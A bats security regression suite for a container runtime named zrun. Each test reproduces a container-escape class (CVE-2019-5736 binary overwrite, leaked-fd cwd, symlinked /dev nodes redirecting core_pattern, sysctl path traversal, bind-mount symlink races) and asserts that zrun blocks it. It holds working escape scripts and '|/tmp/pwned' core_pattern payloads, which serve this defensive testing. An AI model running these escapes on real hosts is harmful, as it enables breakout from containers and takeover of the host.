#!/usr/bin/env bats
# Container escapes, one class per test, each reproducing the attack
# against zrun (the advisories' mechanics, docs/hardening.md) and asserting
# it fails. Each names what in zrun it proves, and so what would break it.
# Tests that give a process a chance to write a host binary use a copy of
# zrun, so a regression damages the copy, never the zrun under test.

load helpers

setup() {
	setup_common
	CORE_PATTERN=$(cat /proc/sys/kernel/core_pattern)
}

teardown() {
	# A regression in the console/masking tests could rewrite it: restore.
	if [ "$(cat /proc/sys/kernel/core_pattern)" != "$CORE_PATTERN" ]; then
		echo "$CORE_PATTERN" > /proc/sys/kernel/core_pattern
	fi
	teardown_common
}

# Run everything of this test with a private copy of the zrun binary.
use_zrun_copy() {
	ORIG_ZRUN=$ZRUN
	cp "$ZRUN" "$WORK/zrun"
	ZRUN=$WORK/zrun
	ZRUN_SHA=$(sha256sum < "$ZRUN")
}

assert_zrun_unchanged() {
	expect_eq "$(sha256sum < "$ZRUN")" "$ZRUN_SHA" "sha256 of the zrun binary"
}

# A config without the /dev tmpfs (and devpts/shm): /dev is the rootfs's
# own directory, the image controls what is in it.
drop_dev_mounts() {
	sed -i '/"destination": "\/dev/d' "$1/config.json"
}

assert_core_pattern_unchanged() {
	expect_eq "$(cat /proc/sys/kernel/core_pattern)" "$CORE_PATTERN" "host kernel.core_pattern"
}

# The host's mount table has no mount at or below $1.
assert_no_mount_at() {
	if awk -v p="$1" '$5 == p || index($5, p "/") == 1 { found = 1 } END { exit !found }' /proc/self/mountinfo; then
		echo "a mount landed on the host at $1:" >&2
		grep -F " $1" /proc/self/mountinfo >&2
		return 1
	fi
}

@test "cve_2019_5736_created_init_exe_cannot_be_opened_from_a_shared_pid_namespace" {
	# Between create and start the init is the zrun binary. Breaks if
	# init_main() (runtime/init.c) stops calling prctl(PR_SET_DUMPABLE, 0):
	# the attacker's readlink and open of /proc/1/exe then succeed.
	use_zrun_copy
	ARGS='["sleep","60"]' V=$(bundle victim)
	zr create -b "$V" "v$TEST_ID"
	local pid
	pid=$(pid_of "v$TEST_ID")
	# the init runs from the read-only overlay of src/cloned_binary.c (a
	# detached mount: the link names the file at its root), not $ZRUN
	expect_eq "$(readlink /proc/$pid/exe)" /zrun "the created init's exe"
	NAMESPACES='[{"type":"pid","path":"/proc/'$pid'/ns/pid"},{"type":"mount"},{"type":"ipc"},{"type":"uts"},{"type":"network"}]'
	ARGS='["sh","-c","readlink /proc/1/exe && echo READLINK; cat /proc/1/exe >/dev/null && echo READ; echo x >> /proc/1/exe && echo WROTE; echo x >> /proc/1/fd/0 && echo FD; true"]'
	A=$(bundle attacker)
	run zr run -b "$A" "a$TEST_ID"
	echo "$output"
	expect_eq "$status" 0 "attacker exit status"
	for word in READLINK READ WROTE FD; do
		! grep -qx "$word" <<<"$output" || { echo "the attacker could $word the created init" >&2; false; }
	done
	[[ "$output" == *"Permission denied"* ]] || { echo "expected EACCES from /proc/1/exe" >&2; false; }
	assert_zrun_unchanged
	zr delete --force "v$TEST_ID"
	assert_gone "v$TEST_ID" $CGROUPS_PATH_PARENT/victim
	assert_gone "a$TEST_ID" $CGROUPS_PATH_PARENT/attacker
}

@test "cve_2019_5736_a_memfd_copy_is_used_where_the_overlay_cannot_be_made" {
	# A directory with ":" cannot be an overlayfs lowerdir unescaped: zrun
	# falls back to a sealed memfd copy. Breaks if that fallback is lost
	# (the init would run from the host file).
	mkdir -p "$WORK/with:colon"
	cp "$ZRUN" "$WORK/with:colon/zrun"
	ZRUN=$WORK/with:colon/zrun
	ARGS='["sleep","60"]' V=$(bundle memfdcopy)
	zr create -b "$V" "$TEST_ID"
	local pid exe
	pid=$(pid_of "$TEST_ID")
	exe=$(readlink /proc/$pid/exe)
	[[ "$exe" == /memfd:zrun* ]] || { echo "init exe: $exe, expected the memfd copy" >&2; false; }
	zr delete --force "$TEST_ID"
	assert_gone "$TEST_ID" $CGROUPS_PATH_PARENT/memfdcopy
}

@test "cve_2019_5736_service_daemons_stay_on_the_host_out_of_reach_of_containers" {
	# The fdstore and the supervisor run zrun-daemon from its file beside
	# zrun, with no sealed copy (docs/hardening.md): the attack needs a
	# process of that file inside a container's reach, and they never
	# are. Proven here: they live in the host's pid and mount namespaces
	# (never setns'd into a version), and even a container that shares the
	# host's pid namespace, and so sees them, cannot readlink, read or
	# write their /proc/PID/exe (a root process with more capabilities
	# than the container: ptrace access refused). Breaks if a daemon
	# enters a container's namespaces or the containers get CAP_SYS_PTRACE
	# by default.
	use_zrun_copy
	# a zrun without zrun-daemon beside it (the ASan build) runs them
	# from its own read-only overlay copy ("/zrun"), as before
	local daemon_exe=/zrun daemon_sha=
	if [ -x "$(dirname "$ORIG_ZRUN")/zrun-daemon" ]; then
		cp "$(dirname "$ORIG_ZRUN")/zrun-daemon" "$WORK/zrun-daemon"
		daemon_exe=$WORK/zrun-daemon
		daemon_sha=$(sha256sum < "$WORK/zrun-daemon")
	fi
	ARGS='["sleep","60"]' V=$(bundle daemons)
	zr create --service cvesvc --listen "unix:$WORK/cvesvc.sock" "$TEST_ID" "$V"
	local fdstore supervisor p ns
	fdstore=$(grep -o '"supervisor_pid":[0-9]*' "$ROOT/.services/cvesvc/service.json" | cut -d: -f2)
	wait_until 5 eval 'supervisor=$(pgrep -x -P "$fdstore" zrun-supervisor)'
	for p in "$fdstore" "$supervisor"; do
		expect_eq "$(readlink "/proc/$p/exe")" "$daemon_exe" "exe of $(cat /proc/$p/comm) $p"
		for ns in pid mnt; do
			expect_eq "$(readlink "/proc/$p/ns/$ns")" "$(readlink /proc/self/ns/$ns)" \
				"$ns namespace of $(cat /proc/$p/comm) $p (the host's)"
		done
	done
	# no pid namespace: the attacker sees the host's processes
	NAMESPACES='[{"type":"mount"},{"type":"ipc"},{"type":"uts"},{"type":"network"}]'
	ARGS='["sh","-c","for p in '"$fdstore $supervisor"'; do readlink /proc/$p/exe && echo READLINK; cat /proc/$p/exe >/dev/null && echo READ; echo x >> /proc/$p/exe && echo WROTE; test -d /proc/$p && echo SEEN; done; true"]'
	A=$(bundle attacker)
	run zr run -b "$A" "a$TEST_ID"
	echo "$output"
	expect_eq "$status" 0 "attacker exit status"
	expect_eq "$(grep -cx SEEN <<<"$output")" 2 "daemons the attacker sees (the test's premise)"
	for word in READLINK READ WROTE; do
		! grep -qx "$word" <<<"$output" || { echo "the attacker could $word a daemon's exe" >&2; false; }
	done
	[[ "$output" == *"Permission denied"* ]] || { echo "expected EACCES from /proc/PID/exe" >&2; false; }
	[ -z "$daemon_sha" ] || expect_eq "$(sha256sum < "$WORK/zrun-daemon")" "$daemon_sha" "sha256 of zrun-daemon"
	zr delete --force "$TEST_ID"
	wait_until 10 eval '! kill -0 "$fdstore" 2>/dev/null' || { echo "fdstore $fdstore left" >&2; false; }
	[ ! -e "$ROOT/.services/cvesvc" ] || { echo "service dir left" >&2; false; }
	assert_zrun_unchanged
	assert_gone "$TEST_ID" $CGROUPS_PATH_PARENT/daemons
	assert_gone "a$TEST_ID" $CGROUPS_PATH_PARENT/attacker
}

# The original CVE-2019-5736 exploit, set up: a rootfs $SHARED with
# /evil = "#!/proc/self/exe --log=/tmp/fifo" (so the kernel runs the
# binary the exec'ing process is, zrun, inside the container; --log on a
# fifo holds it there, so the window is not a race) and /attack, which
# finds that process, opens /proc/PID/exe, lets it exit (ETXTBSY until
# then) and writes the file through the fd. The attacker container
# a$TEST_ID is started; its log is $SHARED/tmp/result. zrun run as /evil
# would re-execute itself from a sealed copy too (an unknown command is not
# in cloned_binary_needless()), which would hide the runtime's own defence:
# seccomp refuses memfd_create there, so it stays the file it was started
# as while it blocks on the fifo (in the wild that is a race, not a fifo).
NO_MEMFD=', "seccomp": { "defaultAction": "SCMP_ACT_ALLOW", "syscalls": [ { "names": ["memfd_create"], "action": "SCMP_ACT_ERRNO" } ] }'

shebang_attack_setup() {
	use_zrun_copy
	SHARED=$WORK/shared/rootfs
	make_rootfs "$WORK/shared"
	# The image ships a dynamic loader and libc, as any glibc image does.
	local lib
	for lib in $(ldd "$ZRUN" | grep -o '/[^ ]*'); do
		mkdir -p "$SHARED$(dirname "$lib")"
		cp -L "$lib" "$SHARED$lib"
	done
	mkfifo "$SHARED/tmp/fifo"
	printf '#!/proc/self/exe --log=/tmp/fifo\n' > "$SHARED/evil"
	chmod 755 "$SHARED/evil"
	cat > "$SHARED/attack" <<'EOF'
#!/bin/sh
i=0
while [ $i -lt 400 ]; do
	for d in /proc/[0-9]*; do
		grep -q -- '--log=/tmp/fifo' "$d/cmdline" 2>/dev/null || continue
		p=${d#/proc/}
		echo "FOUND $p $(readlink /proc/$p/exe)"
		if cat /proc/$p/exe > /dev/null; then
			exec 3< /proc/$p/exe
			echo OPENED
		fi
		cat /tmp/fifo > /dev/null    # let it exit
		j=0
		while [ $j -lt 100 ]; do
			if [ -e /proc/self/fd/3 ] && echo PWNED >> /proc/self/fd/3; then
				echo WROTE
				break
			fi
			j=$((j + 1)); sleep 0.05
		done
		echo DONE; exit 0
	done
	i=$((i + 1)); sleep 0.02
done
echo TIMEOUT
EOF
	chmod 755 "$SHARED/attack"
	LINUX_EXTRA=$NO_MEMFD ARGS='["sh","-c","/attack > /tmp/result 2>&1; sleep 60"]' A=$(bundle attacker)
	sed -i "s|\"path\": \"rootfs\"|\"path\": \"$SHARED\"|" "$A/config.json"
	zr create -b "$A" "a$TEST_ID"
	zr start "a$TEST_ID"
}

shebang_attack_failed() {
	local t=0
	while [ $t -lt 150 ] && ! grep -qE '^(DONE|TIMEOUT)$' "$SHARED/tmp/result" 2>/dev/null; do
		sleep 0.1; t=$((t + 1))
	done
	cat "$SHARED/tmp/result"
	# The attack must have run (the shebang ran zrun in the container) ...
	grep -q '^FOUND' "$SHARED/tmp/result" || { echo "the reproduction did not run: no zrun process seen" >&2; return 1; }
	# ... and failed.
	! grep -qx WROTE "$SHARED/tmp/result" || { echo "the container wrote the zrun binary" >&2; return 1; }
	assert_zrun_unchanged
}

@test "cve_2019_5736_shebang_proc_self_exe_cannot_overwrite_zrun" {
	# The program of a second container (in the attacker's pid namespace)
	# is /evil. zrun re-executes itself from a read-only overlay (or a
	# sealed memfd; src/cloned_binary.c), so the file reached is one
	# nobody can write. Breaks if cloned_binary_ensure() is no longer called for
	# create/run: WROTE appears and the binary's sha changes (as it did
	# before cloned_binary.c).
	shebang_attack_setup
	local pid
	pid=$(pid_of "a$TEST_ID")
	NAMESPACES='[{"type":"pid","path":"/proc/'$pid'/ns/pid"},{"type":"mount"},{"type":"ipc"},{"type":"uts"},{"type":"network"}]'
	LINUX_EXTRA=$NO_MEMFD ARGS='["/evil"]' V=$(bundle victim)
	sed -i "s|\"path\": \"rootfs\"|\"path\": \"$SHARED\"|" "$V/config.json"
	zr create -b "$V" "v$TEST_ID"
	zr start "v$TEST_ID"
	shebang_attack_failed
	zr delete --force "a$TEST_ID"
	zr delete --force "v$TEST_ID"
	assert_gone "a$TEST_ID" $CGROUPS_PATH_PARENT/attacker
	assert_gone "v$TEST_ID" $CGROUPS_PATH_PARENT/victim
}

@test "cve_2019_5736_exec_of_a_shebang_proc_self_exe_cannot_overwrite_zrun" {
	# The `docker exec` form: zrun exec runs /evil in the attacker's own
	# container. Breaks if "exec" is listed in cloned_binary_needless().
	shebang_attack_setup
	run zr exec "a$TEST_ID" /evil
	echo "exec: $output"
	shebang_attack_failed
	zr delete --force "a$TEST_ID"
	assert_gone "a$TEST_ID" $CGROUPS_PATH_PARENT/attacker
}

@test "cve_2024_21626_leaked_host_fd_as_cwd_is_refused" {
	# process.cwd /proc/self/fd/9 with fd 9 a host directory open in the
	# caller. Breaks if rootpath_mkdir_all() follows magic links (no
	# RESOLVE_NO_MAGICLINKS in runtime/rootpath.c) and init's getcwd()
	# check is gone: the program starts in the host dir and lists SECRET.
	mkdir -p "$WORK/hostdir"
	touch "$WORK/hostdir/HOST_SECRET"
	PROCESS_EXTRA=', "cwd": "/proc/self/fd/9"'
	ARGS='["sh","-c","pwd; ls; ls .."]' B=$(bundle leakycwd)
	exec 9<"$WORK/hostdir"
	run zr run -b "$B" "$TEST_ID"
	exec 9<&-
	echo "$output"
	[[ "$output" != *HOST_SECRET* ]] || { echo "the program saw the host directory" >&2; false; }
	[ "$status" -ne 0 ] || { echo "expected create to refuse the cwd" >&2; false; }
	[[ "$output" == *"process.cwd"* ]] || { echo "expected an error naming process.cwd" >&2; false; }
	assert_gone "$TEST_ID" $CGROUPS_PATH_PARENT/leakycwd
}

@test "cve_2024_21626_no_host_fd_reaches_the_container" {
	# Breaks if close_unneeded_fds()/place_fds() (runtime/init.c) stop
	# closing or marking close-on-exec what zrun and its caller hold.
	ARGS='["ls","/proc/self/fd"]' B=$(bundle nofds)
	exec 8<"$WORK" 9</
	run zr run -b "$B" "$TEST_ID"
	exec 8<&- 9<&-
	echo "$output"
	expect_eq "$status" 0 "exit status"
	# 0-2 and ls's own directory fd (3), nothing else
	expect_eq "$(tr '\n' ' ' <<<"$output")" "0 1 2 3 " "fds in the container"
	assert_gone "$TEST_ID" $CGROUPS_PATH_PARENT/nofds
}

@test "cve_2025_31133_dev_null_symlink_cannot_redirect_masked_paths" {
	# The image's /dev/null is a symlink to core_pattern: masking
	# /proc/kcore "with /dev/null" would bind a writable core_pattern over
	# it (here /etc/secret). zrun replaces the image's nodes with its own
	# (mount_dev.c) and
	# masks only with a /dev/null opened O_NOFOLLOW and checked to be char
	# 1:3 (mount.c rootfs_finish). Breaks if mask_path() binds whatever
	# /dev/null resolves to: the write to masked file then reaches the host.
	# /proc/kcore may not exist (no CONFIG_PROC_KCORE): mask an image file.
	LINUX_EXTRA=', "maskedPaths": ["/etc/secret"]'
	ARGS='["sh","-c","echo \"|/tmp/pwned %p\" > /etc/secret; echo wrote=$?; ls -l /dev/null; wc -c < /etc/secret"]'
	B=$(bundle devnull)
	echo SECRET > "$B/rootfs/etc/secret"
	drop_dev_mounts "$B"
	rm -f "$B/rootfs/dev/null"
	ln -s /proc/sys/kernel/core_pattern "$B/rootfs/dev/null"
	run zr run -b "$B" "$TEST_ID"
	echo "$output"
	assert_core_pattern_unchanged
	if [ "$status" -eq 0 ]; then
		# zrun made its own node: /etc/secret reads as empty (masked)
		[[ "$output" == *"crw-rw-rw-"*"1,"*"3"*"/dev/null"* ]] || { echo "expected /dev/null to be char 1:3" >&2; false; }
		expect_eq "$(tail -1 <<<"$output" | tr -d ' ')" 0 "bytes read from the masked /etc/secret"
	else
		[[ "$output" == *"maskedPaths"* ]] || { echo "expected a maskedPaths error" >&2; false; }
	fi
	expect_eq "$(cat "$B/rootfs/etc/secret")" SECRET "the image file under the mask"
	assert_gone "$TEST_ID" $CGROUPS_PATH_PARENT/devnull
}

@test "cve_2025_52565_console_and_pts_symlinks_cannot_redirect_the_terminal" {
	# The image's /dev/ptmx is the host's ptmx (char 5:2, so the pty is
	# allocated on the host devpts) and /dev/pts/N, /dev/console are
	# symlinks to core_pattern: the terminal zrun opens before readOnlyPaths
	# would be core_pattern, writable, as the program's stdio. Breaks if
	# terminal_setup() (runtime/terminal.c) accepts a peer that is not a
	# tty: the program's echo then rewrites the host core_pattern.
	command -v python3 >/dev/null || skip "python3 needed for the console socket"
	ARGS='["sh","-c","echo \"|/tmp/pwned %p\"; echo \"|/tmp/pwned %p\" > /dev/console"]'
	B=$(bundle console)
	drop_dev_mounts "$B"
	sed -i 's|"terminal": false|"terminal": true|' "$B/config.json"
	mkdir -p "$B/rootfs/dev/pts"
	rm -f "$B/rootfs/dev/ptmx" "$B/rootfs/dev/console"
	mknod -m 666 "$B/rootfs/dev/ptmx" c 5 2
	ln -s /proc/sys/kernel/core_pattern "$B/rootfs/dev/console"
	local n
	for n in $(seq 0 63); do ln -s /proc/sys/kernel/core_pattern "$B/rootfs/dev/pts/$n"; done
	local sock=$WORK/console.sock
	python3 - "$sock" > "$WORK/console.out" 2>&1 <<'EOF' &
import array, os, socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind(sys.argv[1]); s.listen(1); s.settimeout(20)
c, _ = s.accept()
fds = array.array("i")
msg, anc, _, _ = c.recvmsg(1024, socket.CMSG_SPACE(4))
for level, kind, data in anc:
    fds.frombytes(data[:4])
m = fds[0]
while True:
    try:
        b = os.read(m, 4096)
    except OSError:
        break
    if not b:
        break
    sys.stdout.write(b.decode(errors="replace"))
EOF
	local py=$!
	local t=0
	while [ ! -S "$sock" ] && [ $t -lt 50 ]; do sleep 0.1; t=$((t + 1)); done
	run zr run --console-socket "$sock" -b "$B" "$TEST_ID"
	echo "$output"
	kill "$py" 2>/dev/null || true  # it may have ended already
	wait "$py" 2>/dev/null || true
	cat "$WORK/console.out"
	assert_core_pattern_unchanged
	assert_gone "$TEST_ID" $CGROUPS_PATH_PARENT/console
}

@test "cve_2025_52881_sysctl_keys_cannot_leave_proc_sys" {
	# Breaks if apply_sysctl() (runtime/init.c) lets ".." or "/" through:
	# the write then lands on another /proc file (here /proc/self/attr).
	local key
	for key in 'kernel/../../self/attr/current' '../self/attr/exec' 'kernel.core_pattern/..' \
		'net..ipv4.ip_forward'; do
		LINUX_EXTRA=', "sysctl": { "'$key'": "x" }' B=$(bundle "sysctl$RANDOM")
		run zr run -b "$B" "$TEST_ID"
		echo "$key: $output"
		[ "$status" -ne 0 ] || { echo "sysctl key $key was accepted" >&2; false; }
		[[ "$output" == *"invalid key"* ]] || { echo "expected 'invalid key' for $key" >&2; false; }
		assert_gone "$TEST_ID" "$CGROUPS_PATH_PARENT/$(basename "$B")"
	done
	assert_core_pattern_unchanged
}

@test "cve_2025_52881_proc_destination_symlink_stays_in_the_rootfs" {
	# The image's /proc is a symlink out of the rootfs (absolute and
	# relative): the proc mount, and every later write through /proc,
	# would land on the host. Breaks if mounts are made on a path resolved
	# without RESOLVE_IN_ROOT (runtime/rootpath.c): the host dir gets a mount.
	mkdir -p "$WORK/hostproc"
	touch "$WORK/hostproc/marker"
	local target
	for target in "$WORK/hostproc" "../../../../../../../..$WORK/hostproc"; do
		ARGS='["sh","-c","cat /proc/self/stat > /dev/null && echo PROC_OK"]' B=$(bundle "procsym$RANDOM")
		rmdir "$B/rootfs/proc"
		ln -s "$target" "$B/rootfs/proc"
		run zr run -b "$B" "$TEST_ID"
		echo "$target: $output"
		assert_no_mount_at "$WORK/hostproc"
		expect_eq "$(ls "$WORK/hostproc")" marker "host dir content"
		assert_gone "$TEST_ID" "$CGROUPS_PATH_PARENT/$(basename "$B")"
	done
}

@test "cve_2025_52881_a_mount_over_proc_files_cannot_catch_the_runtimes_writes" {
	# The config binds a file over the init's /proc/1/oom_score_adj (as a
	# racing mount could cover /proc/self/attr/exec with core_pattern).
	# Breaks if the init writes process.oomScoreAdj (or an LSM label)
	# through the container's /proc instead of the host's procfs handle
	# (runtime/procfs.c): the bait file gets 432 and the process keeps 0.
	ARGS='["sleep","30"]' PROCESS_EXTRA=',"oomScoreAdj":432' \
	MOUNTS_EXTRA=', {"destination": "/proc/1/oom_score_adj", "type": "bind", "source": "'$WORK/bait'", "options": ["bind"]}' \
		B=$(bundle procbait)
	: > "$WORK/bait"
	zr run -d -b "$B" "$TEST_ID"
	local pid
	pid=$(pid_of "$TEST_ID")
	expect_eq "$(cat "$WORK/bait")" "" "what the bait file over /proc/1/oom_score_adj got"
	expect_eq "$(cat "/proc/$pid/oom_score_adj")" 432 "oom_score_adj of the process"
	zr delete --force "$TEST_ID"
	assert_gone "$TEST_ID" $CGROUPS_PATH_PARENT/procbait
}

@test "symlink_race_on_bind_mount_destinations_never_mounts_on_the_host" {
	# While create runs, a host loop flips each destination (or its
	# parent) between a directory and a symlink to a host dir. Breaks if
	# bind_mount() (runtime/mount.c) mounts on a path string instead of the
	# fd that openat2(RESOLVE_IN_ROOT) returned: the host dir gets the bind.
	local host=$WORK/host
	mkdir -p "$host/target" "$WORK/src"
	touch "$host/target/marker" "$WORK/src/FROM_BIND_SOURCE"
	MOUNTS_EXTRA=', { "destination": "/mnt/a/target", "type": "bind", "source": "'$WORK/src'", "options": ["rbind"] }, { "destination": "/mnt/b", "type": "bind", "source": "'$WORK/src'", "options": ["rbind","ro"] }'
	ARGS='["true"]' B=$(bundle race)
	local flip=$B/rootfs/mnt
	mkdir -p "$flip/a/target" "$flip/b"
	ln -s "$host" "$flip/a.alt"
	ln -s "$host/target" "$flip/b.alt"
	# renameat2(RENAME_EXCHANGE): the path is always there, dir or symlink
	python3 - "$flip" <<'EOF' &
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
d = sys.argv[1].encode()
pairs = [(d + b"/a", d + b"/a.alt"), (d + b"/b", d + b"/b.alt")]
while True:
    for x, y in pairs:
        libc.renameat2(-100, x, -100, y, 2)
EOF
	local loop=$! i ok=0 failed=0
	for i in $(seq 1 20); do
		if zr create -b "$B" "$TEST_ID-$i" >/dev/null 2>&1; then
			ok=$((ok + 1))
		else
			failed=$((failed + 1))
		fi
		assert_no_mount_at "$host" || { kill "$loop" 2>/dev/null; false; }
		zr delete --force "$TEST_ID-$i" >/dev/null 2>&1 || true
	done
	kill "$loop" 2>/dev/null; wait "$loop" 2>/dev/null || true
	echo "$ok creates succeeded, $failed refused while the paths flipped"
	[ "$ok" -gt 0 ] || { echo "no create succeeded: the race was never run through" >&2; false; }
	assert_no_mount_at "$host"
	expect_eq "$(ls -A "$host")" target "host dir content"
	expect_eq "$(ls -A "$host/target")" marker "host target content"
	for i in $(seq 1 20); do assert_gone "$TEST_ID-$i" "$CGROUPS_PATH_PARENT/race"; done
}
